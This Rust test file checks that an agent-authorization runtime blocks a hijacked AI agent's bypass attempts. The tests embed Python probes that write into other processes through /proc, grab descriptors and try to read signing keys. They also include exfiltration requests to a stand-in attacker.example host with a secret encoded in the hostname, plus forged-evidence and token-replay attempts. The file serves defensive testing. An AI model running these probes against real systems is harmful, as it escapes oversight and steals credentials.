//! The bypass attempts of the mission runtime's negative conformance tests (draft-mcguinness, mission-bound authorization), each
//! against the built binary, with a hijacked agent in hand: one test for each row, called as the row is, its outcome required.

use serde_json::{Value, json};

use crate::bypass_bed::Bed;
use crate::house::{House, read};
use crate::live::Up;

/// "Agent calls a mediated tool directly, around the PEP": blocked, there is no unmediated path.
///
/// The server's process is there and belongs to the same user; the run writes to its input, attaches to it, takes its
/// descriptors. (A copy of the program that the agent starts itself is the agent's own shell: no mediated tool.)
#[test]
fn agent_calls_a_mediated_tool_directly_around_the_pep() {
    let bed = Bed::new();
    if !bed.confines() {
        return;
    }
    // A live server of a live task.
    let (refused, _) = bed.call(&bed.reader().token, "read_file", json!({"path": "/srv/repo/a"}));
    assert_eq!(refused, Value::Null);
    let script = r#"
import json, os, sys
line = json.dumps({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": "write_file", "arguments": {"path": "/etc/x", "content": "around"}}}) + "\n"
seen = 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        words = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    if int(pid) == os.getpid() or not any(word.endswith(b"server.py") for word in words):
        continue
    seen += 1
    for name in ("fd/0", "fd/1", "root/proc/self/fd/0", "mem"):
        try:
            with open(f"/proc/{pid}/{name}", "r+b", buffering=0) as file:
                file.write(line.encode())
            print("wrote", name)
        except OSError as error:
            print("refused", name, error.errno)
    try:
        fd = os.pidfd_open(int(pid))
        import ctypes
        taken = ctypes.CDLL(None, use_errno=True).syscall(438, fd, 0, 0)
        print("took" if taken >= 0 else "refused", "pidfd_getfd")
    except OSError as error:
        print("refused pidfd", error.errno)
print("servers", seen)
"#;
    let said = bed.run(script, &[]);
    assert_eq!(said.status, Some(0), "{said:?}");
    assert!(
        !said.out.contains("wrote") && !said.out.contains("took"),
        "{said:?}"
    );
    let reached = bed.reached();
    assert_eq!(reached.len(), 1, "{reached:?}");
    assert_eq!(reached[0]["name"], "read_file");
}

/// "Agent presents a cached token after mission revocation": blocked within the freshness bound, which is the next call.
#[test]
fn agent_presents_a_cached_token_after_mission_revocation() {
    let mut bed = Bed::new();
    let task = bed.reader();
    let read = json!({"path": "/srv/repo/a"});
    assert_eq!(bed.call(&task.token, "read_file", read.clone()).0, Value::Null);
    bed.up.json(&["kill", &task.task]);
    let params = json!({"name": "read_file", "arguments": read});
    for endpoint in ["/mcp/fs", "/mcp"] {
        let (status, _) = bed.rpc(endpoint, &task.token, "tools/call", params.clone());
        assert_eq!(status, 401);
    }
    let form = format!(
        "grant_type=urn:ietf:params:oauth:grant-type:token-exchange&subject_token={}&subject_token_type=\
         urn:ietf:params:oauth:token-type:access_token&audience=https://api.example",
        task.token
    );
    let (status, answer) = bed.raw(&format!(
        "POST /oauth/token HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: \
         {}\r\nConnection: close\r\n\r\n{form}",
        bed.address(),
        form.len()
    ));
    assert!(status == 400 && answer.contains("invalid_grant"), "{answer}");
    // Nor does anybody remember it after a restart.
    assert_eq!(bed.up.stop(), Some(0));
    let house = std::mem::replace(&mut bed.up.house, House::new());
    bed.up = Up::again(house);
    let (status, _) = bed.rpc("/mcp/fs", &task.token, "tools/call", params);
    assert_eq!(status, 401);
    assert_eq!(bed.reached().len(), 1);
}

/// "Agent resumes background work after mission state went stale": refused on the check at resume.
#[test]
fn agent_resumes_background_work_after_mission_state_went_stale() {
    let bed = Bed::new();
    let task = bed.writer();
    let ask = |path: &str| {
        let (held, _) = bed.call(&task.token, "write_file", json!({"path": path, "content": "x"}));
        assert_eq!(held["decision"], "hold", "{held}");
        held["approval_id"].as_str().unwrap().to_owned()
    };
    let resume = |approval: &str| {
        bed.call(&task.token, "remit__resume", json!({"approval_id": approval}))
            .0
    };
    // What was waited for is frozen before the yes comes.
    let frozen = ask("/srv/repo/a");
    bed.up
        .json(&["freeze", "fs:/srv/repo", "--until", "1h", "--reason", "release"]);
    bed.up.run(&["approve", &frozen, "--once"]);
    let refused = resume(&frozen);
    assert_eq!(refused["decision"], "deny", "{refused}");
    // The task is suspended, goes on, and ends: nothing of what waited runs in between or after.
    let waiting = ask("/srv/elsewhere/b");
    bed.up.json(&["task", "suspend", &task.task]);
    bed.up.run(&["approve", &waiting, "--once"]);
    let refused = resume(&waiting);
    assert!(
        refused["decision"] != json!("allow") && !refused.is_null(),
        "{refused}"
    );
    assert_eq!(bed.reached(), Vec::<Value>::new());
    bed.up.json(&["task", "resume", &task.task]);
    let last = ask("/srv/elsewhere/c");
    bed.up.json(&["task", "done", &task.task]);
    bed.up.run(&["approve", &last, "--once"]);
    let params = json!({"name": "remit__resume", "arguments": {"approval_id": last}});
    assert_eq!(bed.rpc("/mcp/fs", &task.token, "tools/call", params).0, 401);
    std::thread::sleep(std::time::Duration::from_millis(500));
    let reached = bed.reached();
    assert!(
        reached
            .iter()
            .all(|call| call["arguments"]["path"] == "/srv/elsewhere/b"),
        "{reached:?}"
    );
}

/// "Agent delegates to a sub-agent with no explicit delegation": blocked, nothing is inherited by session ancestry.
#[test]
fn agent_delegates_to_a_sub_agent_with_no_explicit_delegation() {
    let bed = Bed::new();
    let (parent, child) = (
        bed.reader(),
        bed.open(
            "helper",
            &["--allow", "fs/write_file", "--resource", "fs:/srv/other"],
        ),
    );
    // The task names no depth: handing work on is refused.
    let wish = json!({"agent": "helper", "intent": "help", "tools": ["fs/read_file"]});
    let (status, answer) = bed.rpc(
        "/mcp",
        &parent.token,
        "tools/call",
        json!({"name": "remit__delegate", "arguments": wish}),
    );
    let decision = &answer["result"]["_meta"]["dev.remit/decision"];
    assert!(
        decision["decision"] == "deny" || answer["error"].is_object(),
        "{status} {answer}"
    );
    // A sub-agent that runs in the parent's session has its own authority there, and no more.
    let begin = json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
        "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}});
    let legacy = |token: &str, session: Option<&str>, body: &Value| {
        let body = body.to_string();
        let session = session.map_or_else(String::new, |id| format!("Mcp-Session-Id: {id}\r\n"));
        bed.raw(&format!(
            "POST /mcp/fs HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nAccept: \
             application/json, text/event-stream\r\nMCP-Protocol-Version: 2025-11-25\r\n{session}Content-Length: \
             {}\r\nConnection: close\r\n\r\n{body}",
            bed.address(),
            body.len()
        ))
    };
    let (status, begun) = legacy(&parent.token, None, &begin);
    assert_eq!(status, 200, "{begun}");
    let session = begun
        .lines()
        .find_map(|line| {
            line.split_once(": ")
                .filter(|(name, _)| name.eq_ignore_ascii_case("mcp-session-id"))
        })
        .map(|(_, id)| id.trim().to_owned())
        .unwrap();
    let call = json!({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {
        "name": "read_file", "arguments": {"path": "/srv/repo/a"}}});
    let (status, answer) = legacy(&child.token, Some(&session), &call);
    assert_eq!(status, 404, "{answer}");
    let (denied, _) = bed.call(&child.token, "read_file", json!({"path": "/srv/repo/a"}));
    assert_eq!(denied["decision"], "deny", "{denied}");
    // Inside a run nobody opens tasks: control refuses whoever descends from one, whatever it says it is.
    if bed.confines() {
        let script = "import subprocess, sys\nprint(subprocess.run([sys.argv[1], 'task', 'open', '--agent', 'helper', '--intent', 'x', '--json'], capture_output=True))";
        let said = bed.run(script, &[crate::house::REMIT]);
        assert!(
            said.out.contains("returncode=1") && !said.out.contains("remit_"),
            "{said:?}"
        );
    }
    assert_eq!(bed.reached(), Vec::<Value>::new());
}

/// "Agent alters action parameters after the permit is issued": blocked by verifying the digest of the parameters again.
#[test]
fn agent_alters_action_parameters_after_the_permit_is_issued() {
    let bed = Bed::new();
    let task = bed.writer();
    let write = |content: &str| json!({"path": "/srv/repo/a", "content": content});
    let (held, _) = bed.call(&task.token, "write_file", write("as shown"));
    let approval = held["approval_id"].as_str().unwrap();
    bed.up.json(&["approve", approval, "--once"]);
    // The stored bytes were executed, and are what the agent gets whatever it says now.
    let smuggled = json!({"approval_id": approval, "content": "altered", "arguments": write("altered")});
    let (refused, result) = bed.call(&task.token, "remit__resume", smuggled);
    assert!(
        !refused.is_null() || result.is_null() || result["isError"] == true,
        "{result}"
    );
    let (altered, _) = bed.call(&task.token, "write_file", write("altered"));
    assert_eq!(altered["decision"], "hold", "{altered}");
    assert_ne!(altered["approval_id"], approval);
    let reached = bed.wait_reached(1);
    assert_eq!(reached.len(), 1, "{reached:?}");
    assert_eq!(reached[0]["arguments"], write("as shown"));
    // Its result is there a moment later.
    let fetched = (0..100).find_map(|_| {
        let (refused, result) = bed.call(&task.token, "remit__resume", json!({"approval_id": approval}));
        std::thread::sleep(std::time::Duration::from_millis(50));
        refused.is_null().then_some(result)
    });
    assert_eq!(fetched.unwrap()["content"][0]["text"], "did write_file");
    // Once means once.
    let (again, _) = bed.call(&task.token, "write_file", write("as shown"));
    assert_eq!(again["decision"], "hold", "{again}");
    assert_eq!(bed.reached().len(), 1);
}

/// "Agent requests or receives context outside the active mission's scope": refused or withheld.
#[test]
fn agent_requests_or_receives_context_outside_the_active_missions_scope() {
    let bed = Bed::new();
    let task = bed.reader();
    let (_, listed) = bed.rpc("/mcp/fs", &task.token, "tools/list", json!({}));
    let names: Vec<&str> = listed["result"]["tools"]
        .as_array()
        .unwrap()
        .iter()
        .map(|tool| tool["name"].as_str().unwrap())
        .filter(|name| !name.starts_with("remit__"))
        .collect();
    assert_eq!(names, ["read_file"]);
    for path in [
        "/srv/other/a",
        "/srv/repo/../other/a",
        "/srv/repository/a",
        "/srv/repo/..",
    ] {
        let (refused, result) = bed.call(&task.token, "read_file", json!({"path": path}));
        assert_eq!(refused["decision"], "deny", "{path}: {result}");
    }
    let (refused, _) = bed.call(
        &task.token,
        "write_file",
        json!({"path": "/srv/repo/a", "content": "x"}),
    );
    assert_eq!(refused["decision"], "deny", "{refused}");
    // Another server, another task's evidence, what is kept for another run.
    let params = json!({"name": "read_file", "arguments": {"path": "/srv/repo/a"}});
    let (status, answer) = bed.rpc("/mcp/other", &task.token, "tools/call", params);
    let denied = answer["result"]["_meta"]["dev.remit/decision"]["decision"] == "deny";
    assert!(
        status >= 400 || denied || answer["error"].is_object(),
        "{status} {answer}"
    );
    let other = bed.writer();
    let (held, _) = bed.call(
        &other.token,
        "write_file",
        json!({"path": "/srv/repo/a", "content": "x"}),
    );
    let approval = held["approval_id"].as_str().unwrap();
    let (refused, result) = bed.call(&task.token, "remit__resume", json!({"approval_id": approval}));
    assert!(
        !refused.is_null() || result["isError"] == true || result.is_null(),
        "{result}"
    );
    assert_eq!(bed.reached(), Vec::<Value>::new());
}

/// "Agent egresses over a secondary channel (DNS, logs, shared store)": blocked where it is mediated.
///
/// What is not mediated is outside the claim, and SECURITY.md says so: the network of a run without a namespace of its own.
#[test]
fn agent_egresses_over_a_secondary_channel() {
    let bed = Bed::new();
    let task = bed.reader();
    // A secret in a host name: refused by name, and recorded, before anything could ask for the name.
    for line in [
        "CONNECT c2VjcmV0.attacker.example:443",
        "GET http://c2VjcmV0.attacker.example/",
    ] {
        let (status, answer) = bed.raw(&format!(
            "{line} HTTP/1.1\r\nHost: c2VjcmV0.attacker.example\r\nProxy-Authorization: Bearer {}\r\nConnection: close\r\n\r\n",
            task.token
        ));
        assert_eq!(status, 403, "{answer}");
    }
    let refused: Vec<Value> = bed
        .records("decision")
        .into_iter()
        .filter(|record| record["decision"] == "deny")
        .collect();
    assert_eq!(refused.len(), 2, "{refused:?}");
    // Nobody's proxy without a token, and none through another's connection.
    let (status, _) = bed.raw("CONNECT attacker.example:443 HTTP/1.1\r\nHost: attacker.example\r\n\r\n");
    assert_eq!(status, 407);
    // The shared store: what one run left waiting, or kept, no other run reads; its arguments are in no record.
    let writer = bed.writer();
    let note = json!({"path": "/srv/repo/a", "content": "c2VjcmV0LW5vdGU"});
    let (held, _) = bed.call(&writer.token, "write_file", note);
    let approval = held["approval_id"].as_str().unwrap();
    bed.up.json(&["approve", approval, "--once"]);
    assert_eq!(bed.wait_reached(1).len(), 1);
    let (refused, result) = bed.call(&task.token, "remit__resume", json!({"approval_id": approval}));
    assert!(
        !refused.is_null() || result["isError"] == true || result.is_null(),
        "{result}"
    );
    let ledger = bed.up.run(&["export", "-o", "export"]);
    assert_eq!(ledger.status, Some(0), "{ledger:?}");
    assert!(!read(&bed.up.house.work("export")).contains("c2VjcmV0LW5vdGU"));
}

/// "Agent exports or reads an evidence-signing key": refused.
#[test]
fn agent_exports_or_reads_an_evidence_signing_key() {
    let bed = Bed::new();
    if !bed.confines() {
        return;
    }
    let data = bed.up.ready["data"].as_str().unwrap().to_owned();
    assert!(std::fs::metadata(format!("{data}/keys/ledger.key")).is_ok());
    let script = r#"
import os, sys, shutil
data, runtime, up = sys.argv[1:4]
names = [f"{data}/keys/{name}" for name in ("ledger.key", "row.key", "seal.key", "state.key", "vault.key")]
names += [f"{data}/remit.db", f"{runtime}/control.key", f"/proc/{up}/mem", f"/proc/{up}/environ", f"/proc/{up}/root{data}/keys/ledger.key"]
for name in names:
    try:
        open(name, "rb").read(1)
        print("READ", name)
    except OSError as error:
        print("refused", error.errno)
for act in (lambda: os.link(names[0], "stolen"), lambda: os.rename(f"{data}/keys", f"{data}/moved"), lambda: shutil.copy(names[0], "stolen"),
            lambda: open(names[0], "wb"), lambda: os.listdir(f"{data}/keys")):
    try:
        act()
        print("DID")
    except OSError as error:
        print("refused", error.errno)
for descriptor in range(64):
    try:
        open(f"/proc/{up}/fd/{descriptor}", "rb")
        print("READ descriptor", descriptor)
    except OSError:
        pass
"#;
    let up = bed.up.child.id().to_string();
    let runtime = bed.up.house.runtime().display().to_string();
    let said = bed.run(script, &[&data, &runtime, &up]);
    assert_eq!(said.status, Some(0), "{said:?}");
    assert!(
        !said.out.contains("READ") && !said.out.contains("DID"),
        "{said:?}"
    );
    assert_eq!(said.out.matches("refused").count(), 15, "{said:?}");
    // Nor does any endpoint give it: what is published are the keys others check tokens with.
    let ours = bed.up.ready["ledger_key"].as_str().unwrap();
    // Base64 has a plus of its own.
    let public = ours.splitn(3, '+').nth(2).unwrap();
    for path in [
        "/oauth/jwks.json",
        "/.well-known/spiffe-bundle",
        "/keys",
        "/api/v1/keys",
        "/v1/keys",
    ] {
        let (_, answer) = bed.raw(&format!(
            "GET {path} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
            bed.address()
        ));
        assert!(
            !answer.contains(public) && !answer.contains("\"d\""),
            "{path}: {answer}"
        );
    }
    assert_eq!(bed.up.json(&["verify"])["ok"], true);
}

/// "Agent submits a complete evidence object or raw digest for signature": refused.
#[test]
fn agent_submits_a_complete_evidence_object_or_raw_digest_for_signature() {
    let bed = Bed::new();
    let task = bed.reader();
    let record = json!({"type": "decision", "decision": "allow", "tool": "fs/write_file", "task": task.task, "marker": "forged-evidence"});
    let body = record.to_string();
    for path in [
        "/api/v1/sign",
        "/api/v1/records",
        "/api/v1/evidence",
        "/v1/records",
        "/v1/checkpoint",
        "/oauth/sign",
        "/add-checkpoint",
    ] {
        let (status, answer) = bed.raw(&format!(
            "POST {path} HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {}\r\nContent-Type: application/json\r\nContent-Length: \
             {}\r\nConnection: close\r\n\r\n{body}",
            bed.address(),
            task.token,
            body.len()
        ));
        assert!((400..500).contains(&status), "{path}: {answer}");
    }
    // As a decision of ours beside a call, and as an argument: it stays what the agent sent, and is not sent on.
    let params = json!({"name": "read_file", "arguments": {"path": "/srv/repo/a"}, "_meta": {"dev.remit/decision": record}});
    let (_, answer) = bed.rpc("/mcp/fs", &task.token, "tools/call", params);
    assert!(!answer.to_string().contains("forged-evidence"), "{answer}");
    for arguments in [
        json!({"path": "/srv/repo/a", "record": record}),
        json!({"path": "/srv/repo/a", "digest": "sha-256:6mIFoCz79uCHNzKLfBpBwqFjoFXdpmpuc65486IqimQ"}),
    ] {
        let (refused, result) = bed.call(&task.token, "read_file", arguments);
        assert_eq!(refused["decision"], "deny", "{result}");
    }
    for reached in bed.reached() {
        assert!(!reached.to_string().contains("forged-evidence"), "{reached}");
    }
    // And no tool of ours signs anything.
    let (_, tools) = bed.rpc("/mcp", &task.token, "tools/list", json!({}));
    for tool in tools["result"]["tools"].as_array().unwrap() {
        let name = tool["name"].as_str().unwrap();
        assert!(
            !["sign", "attest", "record", "evidence", "checkpoint"]
                .iter()
                .any(|word| name.contains(word)),
            "{name}"
        );
    }
    let said = bed.up.run(&["export", "-o", "export"]);
    assert_eq!(said.status, Some(0), "{said:?}");
    assert!(!read(&bed.up.house.work("export")).contains("forged-evidence"));
    assert_eq!(bed.up.json(&["verify"])["ok"], true);
}

/// "One emitter uses another's key or path": refused.
#[test]
fn one_emitter_uses_anothers_key_or_path() {
    let (mut bed, other) = (Bed::new(), Up::new());
    bed.reader();
    // A second emitter on the same ledger does not start.
    let second = bed.up.run(&["up"]);
    assert_eq!(second.status, Some(1), "{second:?}");
    // What one signed does not verify as the other's.
    let said = bed.up.run(&["export", "-o", "export"]);
    assert_eq!(said.status, Some(0), "{said:?}");
    let (ours, theirs) = (
        bed.up.ready["ledger_key"].as_str().unwrap().to_owned(),
        other.ready["ledger_key"].as_str().unwrap().to_owned(),
    );
    let by_ours = bed.up.json(&["verify", "export", "--key", &ours]);
    assert_eq!(
        (&by_ours["ok"], &by_ours["key_known"]),
        (&json!(true), &json!(true))
    );
    let by_theirs = bed.up.run(&["verify", "export", "--key", &theirs]);
    assert_eq!(by_theirs.status, Some(1), "{by_theirs:?}");
    // The other's key in our place: it does not start, and nothing is signed with it.
    assert_eq!(bed.up.stop(), Some(0));
    let keys = |house: &House| house.dir.join("data/remit/keys/ledger.key");
    let mine = std::fs::read(keys(&bed.up.house)).unwrap();
    std::fs::copy(keys(&other.house), keys(&bed.up.house)).unwrap();
    let refused = bed.up.run(&["up"]);
    assert_eq!(refused.status, Some(1), "{refused:?}");
    assert!(refused.err.contains("keys/ledger.key"), "{refused:?}");
    std::fs::write(keys(&bed.up.house), mine).unwrap();
    let house = std::mem::replace(&mut bed.up.house, House::new());
    bed.up = Up::again(house);
    assert_eq!(bed.up.ready["ledger_key"], ours);
    assert_eq!(bed.up.json(&["verify"])["ok"], true);
}

/// "The evidence signer is unavailable": no fallback to unsigned evidence or a key the agent holds.
#[test]
fn the_evidence_signer_is_unavailable() {
    use std::os::unix::fs::PermissionsExt as _;
    let mut bed = Bed::new();
    bed.reader();
    assert_eq!(bed.up.stop(), Some(0));
    let key = bed.up.house.dir.join("data/remit/keys/ledger.key");
    let good = std::fs::read(&key).unwrap();
    let mode = |mode: u32| std::fs::set_permissions(&key, std::fs::Permissions::from_mode(mode)).unwrap();
    // Gone, cut short, open to others: it does not start, and nothing is signed with another one.
    for spoil in ["gone", "short", "open"] {
        match spoil {
            "gone" => std::fs::remove_file(&key).unwrap(),
            "short" => std::fs::write(&key, &good[..31]).unwrap(),
            _ => mode(0o644),
        }
        let refused = bed.up.run(&["up"]);
        assert_eq!(refused.status, Some(1), "{spoil}: {refused:?}");
        assert!(refused.err.contains("ledger.key"), "{spoil}: {refused:?}");
        let _ = std::fs::remove_file(&key);
        std::fs::write(&key, &good).unwrap();
        mode(0o600);
    }
    let house = std::mem::replace(&mut bed.up.house, House::new());
    bed.up = Up::again(house);
    assert_eq!(bed.up.json(&["verify"])["ok"], true);
}
